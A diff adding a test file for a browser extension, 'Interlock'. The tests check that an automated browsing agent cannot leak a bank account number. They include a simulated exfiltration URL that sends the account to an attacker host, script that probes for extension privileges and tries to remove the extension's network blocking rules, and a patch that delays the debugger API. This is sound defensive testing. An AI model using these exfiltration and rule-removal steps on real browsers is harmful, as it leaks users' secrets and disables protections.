@@ -1,0 +1,149 @@
+// Where a navigation is held: whoever runs script in what is shown there gets none of our powers, and what is judged long goes on.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { patiently } from '../agents/locate.mjs';
+import { playwrightHands } from '../agents/playwright.mjs';
+import { readBalance, signInToBank } from '../agents/tasks.mjs';
+import { SECRETS, sceneOf } from '../attacks/attempt.mjs';
+import { leaked } from '../sites/leaks.mjs';
+import { flagsFor, startSites } from '../sites/server.mjs';
+import { PERSON, urlOf } from '../sites/world.mjs';
+import { extension } from './with-guard.mjs';
+
+const WITH_DATA = urlOf('attacker', `/c?d=${encodeURIComponent(PERSON.account)}`);
+
+/** An agent that has read its bank account; nothing of it may have arrived when `tell` is done. */
+async function afterTheBank(tell) {
+  const sites = await startSites();
+  const hands = await playwrightHands({ extension, args: flagsFor(sites) });
+  const scene = sceneOf(hands, sites);
+  try {
+    await signInToBank(hands, scene.world);
+    await readBalance(hands, scene.memory);
+    await tell(scene);
+    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+  } finally {
+    await hands.close();
+    await sites.close();
+  }
+}
+
+const isShown = (text) => async (frame) =>
+  (await frame
+    .getByText(text)
+    .count()
+    .catch(() => 0)) > 0;
+
+/** What a script in the frame can do to us: in its own world, in a frame or a window of ours that it opens. */
+const powersIn = (frame, id) =>
+  frame.evaluate(async (id) => {
+    const options = `chrome-extension://${id}/popup/options.html`;
+    const framed = (src) =>
+      new Promise((done) => {
+        const frame = document.createElement('iframe');
+        if (src) frame.src = src;
+        frame.addEventListener('load', () => done(frame.contentWindow));
+        document.body.append(frame);
+      });
+    const soon = (work) => Promise.race([work, new Promise((_, no) => setTimeout(no, 1_500))]);
+    const worlds = {
+      here: () => globalThis,
+      'an empty frame': () => framed(),
+      'a frame of our options': () => framed(options),
+      'an empty window': () => open('about:blank'),
+      'a window of our options': () => open(options),
+    };
+    const powers = [];
+    for (const [name, world] of Object.entries(worlds)) {
+      try {
+        const { chrome, navigator } = await soon(world());
+        if (chrome?.runtime?.id || chrome?.storage) powers.push(`the browser's interface: ${name}`);
+        if ((await navigator.serviceWorker.getRegistrations()).length > 0) powers.push(`our worker: ${name}`);
+      } catch {
+        // Not even looked into: no power.
+      }
+    }
+    const { chrome } = globalThis;
+    const rules = (await chrome.declarativeNetRequest?.getSessionRules()) ?? [];
+    await chrome.declarativeNetRequest?.updateSessionRules({ removeRuleIds: rules.map((rule) => rule.id) });
+    return powers;
+  }, id);
+
+test(
+  'script in the page that says why a navigation was held has none of our powers, and its buttons lead on and back',
+  { timeout: 60_000 },
+  () =>
+    afterTheBank(async ({ hands }) => {
+      const { page, id } = hands;
+      const isStopped = () => patiently(() => isShown('Stopped by Interlock')(page), 'what was stopped', 10_000);
+      const anew = async (last) => {
+        await patiently(() => page.url() !== last && page.url().includes('/held.html'), 'the next', 10_000);
+        await isStopped();
+      };
+      const before = page.url();
+      await page.goto(WITH_DATA);
+      await isStopped();
+      await page.getByRole('button', { name: 'Go back' }).click();
+      await patiently(() => page.url() === before, 'the page before', 10_000);
+      await page.goto(WITH_DATA);
+      await isStopped();
+      const first = page.url();
+      await page.getByRole('button', { name: 'Try again' }).click();
+      await anew(first);
+      assert.deepEqual(await powersIn(page, id), []);
+      const shown = page.url();
+      await page.evaluate((url) => location.assign(url), `${WITH_DATA}&n=2`);
+      await anew(shown);
+    }),
+);
+
+test('nor has script in a held frame of a site', { timeout: 60_000 }, () =>
+  afterTheBank(async ({ hands }) => {
+    const { page, id } = hands;
+    await page.evaluate((src) => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src, name: 'held' }));
+    }, WITH_DATA);
+    const frame = await patiently(() => page.frame('held'), 'the frame', 5_000);
+    await patiently(() => isShown('Stopped by Interlock')(frame), 'what was stopped', 10_000);
+    assert.deepEqual(await powersIn(frame, id), []);
+    await page.evaluate((src) => Object.assign(document.querySelector('iframe'), { src }), `${WITH_DATA}&n=2`);
+    await page.waitForTimeout(1_000);
+  }),
+);
+
+/** The browser takes its time to say who drives what: a new tab's navigation is judged only then. */
+const slowDown = ({ context, id }, ms) =>
+  context
+    .serviceWorkers()
+    .find((worker) => worker.url().includes(id))
+    .evaluate((ms) => {
+      const ask = chrome.debugger.getTargets;
+      chrome.debugger.getTargets = () => new Promise((done) => setTimeout(() => done(ask()), ms));
+    }, ms);
+
+/** The documents that a new tab shows on its way to `url`, which it asks for under the name `reading`. */
+async function shownOnTheWay({ context }, url) {
+  const shown = [];
+  const tab = await context.newPage();
+  tab.on('framenavigated', (frame) => shown.push(/popup\/\w+/.exec(frame.url())?.[0] ?? frame.url()));
+  await tab.evaluate("name = 'reading'");
+  await tab.goto(url);
+  return { tab, shown };
+}
+
+test(
+  'what is judged long waits where a script has no powers, and goes on from there with its name, or is stopped as ever',
+  {
+    timeout: 60_000,
+  },
+  () =>
+    afterTheBank(async ({ hands }) => {
+      await slowDown(hands, 2_500);
+      const { tab, shown } = await shownOnTheWay(hands, urlOf('forum'));
+      assert.deepEqual([...new Set(shown)], ['popup/hold', 'popup/held', urlOf('forum')]);
+      assert.equal(await tab.evaluate('name'), 'reading');
+      const { tab: other } = await shownOnTheWay(hands, WITH_DATA);
+      await patiently(() => isShown('Stopped by Interlock')(other), 'what was stopped', 10_000);
+      assert.deepEqual(await powersIn(other, hands.id), []);
+    }),
+);
